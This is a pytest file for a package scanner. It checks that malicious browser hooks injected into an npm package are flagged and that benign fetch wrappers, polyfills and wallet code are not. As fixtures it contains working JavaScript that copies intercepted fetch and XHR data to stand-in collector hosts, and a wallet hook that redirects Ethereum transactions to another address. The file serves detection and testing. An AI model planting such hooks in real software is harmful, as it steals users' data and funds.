"""A browser hook that copies what it intercepts to a host, or rewrites the wallet transaction
it intercepts, is malicious on its own and in every version bump (CW-BROWSER-HOOK-EXFIL,
CW-BROWSER-WALLET-REWRITE); a fetch wrapper that logs, retries or forwards, a polyfill and a
wallet library that builds transactions are not. Inert: hosts under ``.invalid``, nothing run."""

from __future__ import annotations

import json

import pytest

from chainwatch.model import Level, PackageRef, Verdict
from chainwatch.scan import Loaded, Scanner, scan_snippet_files
from tests.helpers import BENIGN_INDEX

SCANNER = Scanner(None, workers=1)
C2 = "https://collect.example.invalid/c"
_HOOK = ("if (typeof window !== 'undefined') {\n  const orig = window.fetch;\n"
         "  window.fetch = async function (url, opts) {\n    try { %s } catch (e) {}\n"
         "    return orig.apply(this, arguments);\n  };\n}\n")
EXFIL = {
    "beacon": _HOOK % f"navigator.sendBeacon('{C2}', JSON.stringify({{ url, body: opts && opts.body }}));",
    "image": _HOOK % ("const q = encodeURIComponent(JSON.stringify({ url, b: opts && opts.body }));"
                      f" new Image().src = '{C2}?d=' + q;"),
    "xhr": _HOOK % (f"const x = new XMLHttpRequest(); x.open('POST', '{C2}');"
                    " x.send(JSON.stringify({ url, b: opts && opts.body }));"),
    "websocket": _HOOK % ("const s = new WebSocket('wss://collect.example.invalid/s');"
                          " s.onopen = function () { s.send(JSON.stringify({ url })); };"),
    "original-fetch": _HOOK % (f"orig('{C2}', {{ method: 'POST', body: JSON.stringify({{ url,"
                               " b: opts && opts.body }) });"),
    "xhr-send-hook": ("const P = XMLHttpRequest.prototype, s = P.send;\n"
                      "P.send = function (body) { navigator.sendBeacon('https://x.example.invalid/"
                      "k', body); return s.call(this, body); };\n"),
    "arrow-sequence": ("const orig = window.fetch;\nwindow.fetch = (url, opts) =>"
                       " (fetch('https://x.example.invalid/q', { method: 'POST', body: url }),"
                       " orig(url, opts));\n"),
}
REWRITE = ("const eth = typeof window !== 'undefined' && window.ethereum;\nif (eth) {\n"
           "  const req = eth.request;\n  eth.request = async function (args) {\n"
           "    if (args && args.method === 'eth_sendTransaction') {\n"
           "      args.params[0].to = '0x00000000000000000000000000000000000dead0';\n    }\n"
           "    return req.call(eth, args);\n  };\n}\n")
BENIGN = {
    "logging-wrapper": _HOOK % "console.debug('[net]', opts && opts.method, url);",
    "retry-wrapper": ("const orig = window.fetch;\nwindow.fetch = async (url, opts) => {\n"
                      "  for (let i = 0; i < 3; i++) { try { return await orig(url, opts); }"
                      " catch (e) { await new Promise((r) => setTimeout(r, 100 * i)); } }\n"
                      "  return orig(url, opts);\n};\n"),
    "polyfill": ("if (!globalThis.fetch) {\n  globalThis.fetch = function (u, o) {"
                 " return require('node-fetch')(u, o); };\n}\n"),
    "base-url-forwarder": ("const orig = window.fetch;\nwindow.fetch = (url, opts) =>"
                           " orig('https://api.example.invalid' + url, opts);\n"),
    "wallet-builds-transaction": (
        "async function pay(to, wei) {\n  const [from] = await window.ethereum.request("
        "{ method: 'eth_requestAccounts' });\n  const tx = { from, to, value: wei };\n"
        "  tx.value = '0x' + BigInt(wei).toString(16);\n  return window.ethereum.request("
        "{ method: 'eth_sendTransaction', params: [tx] });\n}\nmodule.exports.pay = pay;\n"),
}


def _loaded(version: str, extra: str | None) -> Loaded:
    files = {"package.json": json.dumps({"name": "left-padder", "version": version,
                                         "main": "index.js"}).encode(),
             "index.js": (BENIGN_INDEX + ("\n" + extra if extra else "")).encode()}
    return Loaded(PackageRef("left-padder", version), scan_snippet_files(files))


def _rules(v: Verdict) -> set[str]:
    return {f.rule for f in v.findings}


@pytest.mark.parametrize("name", sorted(EXFIL))
@pytest.mark.parametrize("version", [None, "1.0.1", "1.1.0", "2.0.0"])
def test_hook_that_sends_intercepted_data_is_malicious(name: str, version: str | None) -> None:
    target = _loaded(version or "1.0.0", EXFIL[name])
    v = SCANNER.analyze(target, _loaded("1.0.0", None) if version else None)
    assert v.level is Level.MALICIOUS, (v.level, v.score, _rules(v))
    assert "CW-BROWSER-HOOK-EXFIL" in _rules(v)


@pytest.mark.parametrize("version", [None, "1.0.1", "1.1.0", "2.0.0"])
def test_wallet_hook_that_rewrites_recipient_is_malicious(version: str | None) -> None:
    target = _loaded(version or "1.0.0", REWRITE)
    v = SCANNER.analyze(target, _loaded("1.0.0", None) if version else None)
    assert v.level is Level.MALICIOUS, (v.level, v.score, _rules(v))
    assert "CW-BROWSER-WALLET-REWRITE" in _rules(v)


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_wrappers_polyfills_and_wallet_libraries_are_not_abuse(name: str) -> None:
    for base in (None, _loaded("1.0.0", None)):
        v = SCANNER.analyze(_loaded("1.1.0", BENIGN[name]), base)
        assert not _rules(v) & {"CW-BROWSER-HOOK-EXFIL", "CW-BROWSER-WALLET-REWRITE"}, name
        assert v.level is not Level.MALICIOUS, (name, v.score, _rules(v))
